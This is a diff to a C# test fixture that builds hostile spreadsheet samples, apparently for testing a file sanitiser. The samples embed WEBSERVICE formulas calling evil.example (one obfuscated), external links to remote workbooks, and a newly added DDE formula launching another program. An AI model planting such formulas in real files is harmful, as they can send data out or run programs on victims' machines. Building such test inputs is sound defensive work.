@@ -75,6 +75,7 @@ internal static class HostileFiles
         ["an XLSX with a cell that asks another host"] = ("a.xlsx", () => Zip([.. OpenXml(FileType.Xlsx), new("xl/worksheets/a.xml", "<f>_xlfn.WEBSERVICE(\"https://evil.example\")</f>")])),
         ["an ODS with a cell that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
         ["an ODS with a cell that asks another host under another name"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=1+COM.MICROSOFT.&#87;EBSERVICE(&quot;https://evil.example&quot;)\"/>")),
+        ["an ODS with a cell that asks another program"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;A1&quot;)\"/>")),
         ["an ODS with a name that asks another host"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:named-expression table:expression=\"of:=1+WEBSERVICE(&quot;https://evil.example&quot;)\"/>")),
         ["an ODS with a cell from elsewhere"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=[&#39;https://evil.example/a.ods'#$Sheet1.A1]\"/>")),
         ["an ODS with a cell from another machine"] = ("a.ods", () => LinkedFile(FileType.Ods, "content.xml", "<table:table-cell table:formula=\"of:=['//evil.example/a.ods'#$Sheet1.A1]\"/>")),
